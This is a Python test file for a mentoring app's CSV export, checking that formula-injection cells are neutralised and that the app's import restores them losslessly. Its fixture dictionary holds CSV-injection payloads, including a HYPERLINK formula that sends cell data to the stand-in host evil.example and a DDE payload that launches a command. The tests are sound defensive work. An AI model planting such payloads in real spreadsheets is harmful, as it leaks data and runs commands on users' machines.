"""CSV export neutralises formula cells (OWASP's CSV-injection advice: a leading
apostrophe) and the project's own import reverses it losslessly (docs/reliability.md: "A
CSV export opened in a spreadsheet")."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from mentordesk.services.csv_io import (
    export_mentees_csv,
    import_mentees_csv,
    neutralize_cell,
    restore_cell,
)
from mentordesk.services.mentees import MenteeService
from mentordesk.storage.database import Database, open_database
from mentordesk.storage.schema import Mentee

HOSTILE = {
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")": "=cmd|' /C calc'!A0",
    "+1+1": "@SUM(1+1)",
    "-2+3": "\t=1+1",
    "'=already quoted": "''",
    "'": "'plain apostrophe",
    "@Ada": "\r=1",
}


def _add(db: Database) -> None:
    with db.transaction() as s:
        for name, background in HOSTILE.items():
            s.add(Mentee(name=name, background=background, timezone="UTC"))


def test_export_writes_no_cell_a_spreadsheet_would_run(tmp_path: Path) -> None:
    db = open_database(tmp_path / "a.sqlite3")
    _add(db)
    target = tmp_path / "mentees.csv"
    export_mentees_csv(db, target)
    db.close()
    text = target.read_text(encoding="utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_the_round_trip_through_our_own_import_is_lossless(tmp_path: Path) -> None:
    source = open_database(tmp_path / "a.sqlite3")
    _add(source)
    target = tmp_path / "mentees.csv"
    export_mentees_csv(source, target)
    source.close()
    copy = open_database(tmp_path / "b.sqlite3")
    report = import_mentees_csv(copy, target, default_zone="UTC")
    assert report.ok, report.summary()
    service = MenteeService(copy)
    got = {service.get(r.id).data.name: service.get(r.id).data.background
           for r in service.list_rows(include_archived=True)}
    copy.close()
    assert got == HOSTILE


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("'=+-@\t\rab ")), max_size=6))
def test_restore_undoes_neutralize_for_any_text(value: str) -> None:
    assert restore_cell(neutralize_cell(value)) == value
    assert not neutralize_cell(value).startswith(("=", "+", "-", "@", "\t", "\r"))
